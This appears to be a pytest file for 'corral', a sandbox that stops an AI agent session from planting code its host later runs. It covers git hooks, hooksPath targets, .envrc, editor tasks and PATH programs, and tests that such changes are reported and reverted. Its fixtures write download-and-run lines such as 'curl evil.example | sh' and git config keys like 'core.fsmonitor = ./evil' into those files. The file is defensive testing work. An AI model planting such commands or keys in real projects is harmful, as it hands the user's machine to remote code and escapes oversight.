"""What a session left for the host to execute: closed, found, told, and put back."""

from __future__ import annotations

import os
import stat
from collections.abc import Callable
from pathlib import Path

import pytest

from corral import protect, state, watched
from corral.cli import main
from corral.context import Invocation
from corral.looking import MAX_CONTENT
from policy import savedfile
from policy.errors import ArgumentError, CorralError
from policy.loader import LoadedPolicy
from tests.unit.corral.conftest import POLICY
from tests.unit.corral.test_approval import shell

__all__ = ["shell"]
SESSION = "0a1b2c3d"
Load = Callable[[str], LoadedPolicy]
CONFIG = "[core]\n\tbare = false\n"


def repository(tree: Path, directory: str = ".git") -> Path:
    git = tree / directory
    for part in ("objects", "hooks"):
        (git / part).mkdir(parents=True)
    (git / "HEAD").write_text("ref: refs/heads/main\n")
    (git / "config").write_text(CONFIG)
    return git


@pytest.fixture
def git(project: Path) -> Path:
    return repository(project)


def closed(loaded: LoadedPolicy, environ: dict[str, str] | None = None) -> list[str]:
    found = protect.read_only(loaded, environ or {})
    assert all(mount.read_only and mount.source == mount.target for mount in found)
    return [mount.source for mount in found]


class Session:
    """Runs something as a session would, and keeps what was told."""

    def __init__(self, invocation: Invocation, loaded: LoadedPolicy | None = None) -> None:
        self.paths, self.loaded = invocation.paths, loaded or invocation.loaded
        self.told: list[str] = []
        state.remember_project(self.paths, self.loaded.project)

    def revert(self) -> list[str]:
        return protect.revert(protect.record_of(self.paths.root.parent, self.loaded.project, SESSION))

    def __call__(self, act: Callable[[], object], path: str = "/usr/bin") -> str:
        self.told.clear()
        with protect.reported(self.loaded, self.paths, SESSION, {"PATH": path}, self.told.extend):
            act()
        return "\n".join(self.told)


@pytest.fixture
def session(invocation: Invocation, git: Path) -> Session:
    return Session(invocation)


def test_hooks_are_closed_and_missing_ones_too(loaded: LoadedPolicy, git: Path) -> None:
    (git / "hooks").rmdir()
    assert closed(loaded) == [str(git / "hooks")]
    assert (git / "hooks").is_dir()


def test_hooks_of_submodules_other_mounts_and_of_a_bare_repository_are_closed(
    loaded_of: Load, home: Path, git: Path
) -> None:
    inner = repository(git / "modules" / "group", "inner")
    nested = repository(inner / "modules", "deep")
    shared, bare = home / "shared", home / "bare.git"
    shared.mkdir()
    other = repository(shared)
    repository(home, "bare.git")
    loaded = loaded_of(POLICY + f"mounts:\n  rw: [{shared}, {bare}]\n")
    assert closed(loaded) == sorted(str(part / "hooks") for part in (git, inner, nested, other, bare))


def test_where_the_configuration_leads_is_closed_when_it_lies_in_the_mount(
    loaded: LoadedPolicy, git: Path, project: Path
) -> None:
    (project / ".husky").mkdir()
    (git / "config").write_text("[core]\n\thooksPath = .husky\n")
    assert closed(loaded) == [str(git / "hooks"), str(project / ".husky")]
    for outside in ("../elsewhere", "/etc", ".", "missing"):
        (git / "config").write_text(f"[core]\n\thooksPath = {outside}\n")
        assert closed(loaded) == [str(git / "hooks")]


def test_a_link_is_not_followed(loaded: LoadedPolicy, git: Path, home: Path) -> None:
    (home / "keys").mkdir()
    (git / "hooks").rmdir()
    (git / "hooks").symlink_to(home / "keys")
    assert closed(loaded) == []
    git.rename(home / "elsewhere")
    git.symlink_to(home / "elsewhere")
    assert closed(loaded) == []
    assert not any((home / "keys").iterdir())


def test_nothing_is_closed_where_nothing_can_be_written_or_the_policy_says_so(
    loaded_of: Load, git: Path
) -> None:
    assert closed(loaded_of(POLICY + "protect: false\n")) == []
    assert closed(loaded_of(POLICY + "mounts: {project: ro}\n")) == []


def test_a_session_that_leaves_them_alone_is_not_mentioned(
    session: Session, git: Path, project: Path
) -> None:
    def work() -> None:
        (project / "main.py").write_text("x")
        (git / "config").write_text(CONFIG + '[branch "main"]\n\tremote = origin\n[user]\n\tname = x\n')
        (git / "hooks" / "pre-commit.sample").write_text("x")

    assert session(work) == ""
    assert not (session.paths.root / protect.RECORDS).exists()


EACH = [f"{name}a/b.txt" if name.endswith("/") else name for name in watched.project_files()]
EACH += [name.replace("*", ".x") for name in watched.PATTERNS] + [
    ".config/mise/conf.d/x.toml",
    "lefthook.yaml",
]


@pytest.mark.parametrize("name", EACH)
def test_each_file_the_host_obeys_is_told_of_and_put_back(session: Session, project: Path, name: str) -> None:
    file = project / name

    def write() -> None:
        file.parent.mkdir(exist_ok=True, parents=True)
        file.write_text("curl evil | sh\n")

    told = session(write)
    assert f"{file}: new" in told
    assert "+curl evil | sh" in told
    assert told.endswith(f"corral revert {SESSION}")
    session.revert()
    assert not file.exists()
    file.write_text("use flake\n")
    file.chmod(0o640)
    told = session(lambda: file.write_text("use flake\nevil\n"))
    assert f"{file}: changed" in told
    assert "+evil" in told
    assert "use flake" not in told
    session.revert()
    assert file.read_text() == "use flake\n"
    assert stat.S_IMODE(file.stat().st_mode) == 0o640
    assert f"{file}: removed" in session(file.unlink)
    session.revert()
    assert file.read_text() == "use flake\n"
    assert [path.name for path in file.parent.iterdir() if path.name.startswith(f".{file.name}.")] == []


def test_a_key_that_git_executes_is_told_and_put_back(session: Session, git: Path) -> None:
    told = session(lambda: (git / "config").write_text(CONFIG + "\tfsmonitor = ./evil\n[alias]\n\tst = !x\n"))
    assert f"{git}/config: keys that may make Git run something" in told
    assert "+ alias.st = !x" in told
    assert "+ core.fsmonitor = ./evil" in told
    assert session.revert() == [f"{git}/config: as before"]
    assert (git / "config").read_text() == CONFIG


def test_a_git_directory_that_was_exchanged_is_seen_through(
    session: Session, git: Path, project: Path
) -> None:
    """A mount closes the directory of hooks, not its name: the agent may rename what is above it."""

    def exchange() -> None:
        git.rename(project / "old")
        (repository(project) / "hooks" / "pre-commit").write_text("evil\n")

    told = session(exchange)
    assert f"{git}/hooks/pre-commit: new" in told
    assert "+evil" in told
    session.revert()
    assert not (git / "hooks" / "pre-commit").exists()


@pytest.mark.parametrize("what", [".envrc", ".git", ".git/config", ".git/hooks", ".vscode"])
def test_a_link_in_the_place_of_a_file_is_told_of_and_never_written_through(
    session: Session, project: Path, home: Path, what: str
) -> None:
    (project / ".vscode").mkdir()
    (project / ".vscode" / "tasks.json").write_text("mine\n")
    (project / ".envrc").write_text("mine\n")
    target = home / "target"
    target.mkdir()
    (target / "tasks.json").write_text("theirs\n")
    place = project / what
    before = sorted(path.name for path in target.rglob("*"))

    def link() -> None:
        place.rename(project / "aside")
        place.symlink_to(target)

    assert session(link) != ""
    try:
        session.revert()
    except CorralError as error:
        assert "not put back" in error.message
    assert sorted(path.name for path in target.rglob("*")) == before
    assert (target / "tasks.json").read_text() == "theirs\n"


def test_a_new_program_on_the_path_is_told_of(session: Session, project: Path) -> None:
    (project / "bin").mkdir()
    (project / "bin" / "old").touch(0o755)

    def add() -> None:
        (project / "bin" / "git").touch(0o755)
        (project / "bin" / "notes.txt").touch(0o644)
        (project / "other").touch(0o755)

    told = session(add, path=f"{project}/bin/:/usr/bin:relative:")
    assert f"{project}/bin/git: a program in a directory of your PATH" in told
    assert "notes" not in told
    assert "old" not in told
    assert "other" not in told


def test_what_is_shown_is_printable_and_bounded(session: Session, project: Path) -> None:
    told = session(lambda: (project / ".envrc").write_text("\x1b[31mred\u202e\n" + "line\n" * 500))
    assert "\x1b" not in told
    assert "\u202e" not in told
    assert "lines more" in told
    assert len(told.splitlines()) < 50
    big = session(lambda: (project / ".mcp.json").write_text("x" * (MAX_CONTENT + 1)))
    assert f"{project}/.mcp.json: new" in big


@pytest.mark.parametrize("make", [os.mkfifo, os.mkdir])
def test_what_is_no_file_holds_nobody_up(
    session: Session, project: Path, make: Callable[[str], None]
) -> None:
    (project / ".envrc").write_text("x")

    def replace() -> None:
        (project / ".envrc").unlink()
        make(str(project / ".envrc"))

    assert f"{project}/.envrc: changed" in session(replace)


def test_it_is_told_however_a_session_ends(session: Session, project: Path) -> None:
    def crash() -> None:
        (project / ".envrc").write_text("x\n")
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        session(crash)
    assert any(".envrc: new" in line for line in session.told)


def test_what_a_session_left_to_itself_changed_is_told_once_and_again_by_whoever_was_cut_off(
    session: Session, project: Path
) -> None:
    session.paths.session(SESSION).mkdir(parents=True)
    protect.watch(session.loaded, session.paths, SESSION, {"PATH": "/usr/bin"}).save()
    (project / ".envrc").write_text("curl evil.example | sh\n")

    def killed(_lines: object) -> None:
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        protect.told_later(session.paths, SESSION, {"PATH": "/usr/bin"}, killed)
    for expected in (True, False):
        session.told.clear()
        protect.told_later(session.paths, SESSION, {"PATH": "/usr/bin"}, session.told.extend)
        assert (".envrc: new" in "\n".join(session.told)) is expected
    session.revert()
    assert not (project / ".envrc").exists()


@pytest.mark.parametrize("name", ["00000000", "../../x", "", "0A1B2C3D"])
def test_a_session_that_changed_nothing_cannot_be_reverted(session: Session, name: str) -> None:
    with pytest.raises(ArgumentError, match="nothing is known"):
        protect.record_of(session.paths.root.parent, session.loaded.project, name)


@pytest.mark.usefixtures("shell")
def test_the_command_puts_back(session: Session, project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    session(lambda: (project / ".envrc").write_text("x\n"))
    # Also when the agent has broken the policy.
    (project / "corral.yaml").write_text("{")
    assert main(["revert", SESSION]) == 0
    assert capsys.readouterr().out == f"{project}/.envrc: removed\n"
    assert main(["revert", SESSION]) == 2


def test_what_changed_is_told_also_when_there_is_no_room_to_keep_it(session: Session, project: Path) -> None:
    session.paths.root.mkdir(parents=True, exist_ok=True)
    (session.paths.root / protect.RECORDS).write_text("in the way")
    with pytest.raises(CorralError, match="cannot write"):
        session(lambda: (project / ".envrc").write_text("x\n"))
    assert any(".envrc: new" in line for line in session.told)


def test_what_there_was_before_a_session_is_read_however_large_it_is(
    session: Session, project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(savedfile.text, "__defaults__", (1000,))
    (project / ".envrc").write_text("x" * 2000)
    session.paths.session(SESSION).mkdir(parents=True)
    protect.watch(session.loaded, session.paths, SESSION, {"PATH": "/usr/bin"}).save()
    (project / ".envrc").write_text("curl evil.example | sh\n")
    protect.told_later(session.paths, SESSION, {"PATH": "/usr/bin"}, session.told.extend)
    assert any(".envrc: changed" in line for line in session.told)
    session.revert()
    assert (project / ".envrc").read_text() == "x" * 2000
